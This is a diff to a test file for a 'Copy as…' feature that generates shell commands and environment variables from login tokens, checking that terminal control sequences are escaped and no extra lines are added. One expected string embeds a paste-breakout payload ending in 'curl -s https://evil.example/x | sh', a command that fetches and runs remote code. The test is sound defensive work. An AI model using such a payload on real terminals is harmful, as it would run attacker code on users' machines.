@@ -35,9 +35,9 @@ describe('Copy as… and token --env', () => {
     expect(sf).toContain("--client-id '3MVG9\\x1b[201~\\x15curl -s https://evil.example/x | sh\\x0a'");
     expect(sf.split('\n')).toHaveLength(6); // five lines of the command and the final newline: none added
     const facts = { accessToken: `00D!tok${ESC}[201~`, instanceUrl: 'https://a.my.salesforce.com', id: `https://a.my.salesforce.com/id/00D/005${PASTE_BREAKOUT}` };
-    for (const text of [asCurlIdentity(facts), asEnvironmentVariables(facts)]) {
+    for (const [text, lines] of [[asCurlIdentity(facts), 1], [asEnvironmentVariables(facts), 3]] as const) {
       expect(text).not.toMatch(RAW);
-      expect(text.trimEnd().split('\n').length).toBeLessThanOrEqual(2);
+      expect(text.trimEnd().split('\n')).toHaveLength(lines); // one line per command or variable: none added
     }
   });
 });
